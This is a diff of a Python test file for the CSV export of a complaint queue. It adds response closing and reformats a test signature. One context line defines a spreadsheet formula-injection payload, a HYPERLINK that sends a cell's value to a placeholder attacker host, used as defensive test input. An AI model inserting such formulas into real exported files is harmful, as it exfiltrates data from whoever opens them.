@@ -27,8 +27,11 @@ FORMULA = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
 
 
 def _csv(response) -> list[dict[str, str]]:
+    """The rows of a CSV answer; the response is closed, as a WSGI server closes it, which ends
+    the request (and its transaction) that the streamed body kept open."""
     assert response.status_code == 200, response.get_data(as_text=True)[:500]
     text = response.get_data(as_text=True)
+    response.close()
     assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
     return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
 
@@ -57,9 +60,7 @@ def test_the_queue_exports_as_csv_with_its_clocks_and_no_identity(client, header
     assert "Nining" not in text and "nining@contoh.id" not in text
 
 
-def test_an_export_has_the_rows_the_callers_queue_has_and_citizens_get_none(
-    client, headers_for
-):
+def test_an_export_has_the_rows_the_callers_queue_has_and_citizens_get_none(client, headers_for):
     verifier, head = headers_for("verifier"), headers_for("agency_head")
     mine = file_complaint(client, category="ADMINDUK")  # DISDUKCAPIL: the demo head's agency
     other = file_complaint(client, category="PERIZINAN")  # DPMPTSP
